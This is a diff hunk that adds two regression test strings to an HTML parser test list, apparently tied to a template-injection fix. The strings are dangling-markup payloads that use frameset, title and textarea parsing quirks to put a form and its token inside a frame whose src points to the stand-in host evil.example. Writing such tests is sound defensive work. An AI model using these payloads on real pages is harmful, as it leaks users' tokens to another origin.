@@ -229,6 +229,14 @@ REGRESSIONS = [
     # body context, and </table> was read again for ever (seed 103, page
     # 6796)
     "<table><tbody><svg><template></table>" + REAL,
+    # "in frameset" drops a <title> or <textarea> start tag: the form read
+    # after it was inside a <frame src> to another origin, with the token
+    # (review of the template fix, 2026-12; the generator makes no
+    # frameset); the injector stops at a <frameset> now
+    "<frameset><title><frame src='//evil.example/?</title>" + REAL + "'>",
+    # (in body too: a <div> and whitespace leave the frameset-ok flag set)
+    "<head><title>t</title></head><div class=a>\n<frameset><textarea><frame src='//evil.example/?</textarea>" + REAL +
+    "'>",
 ]
 
 # Wrong placements by hand, judged without the injector: the oracle must
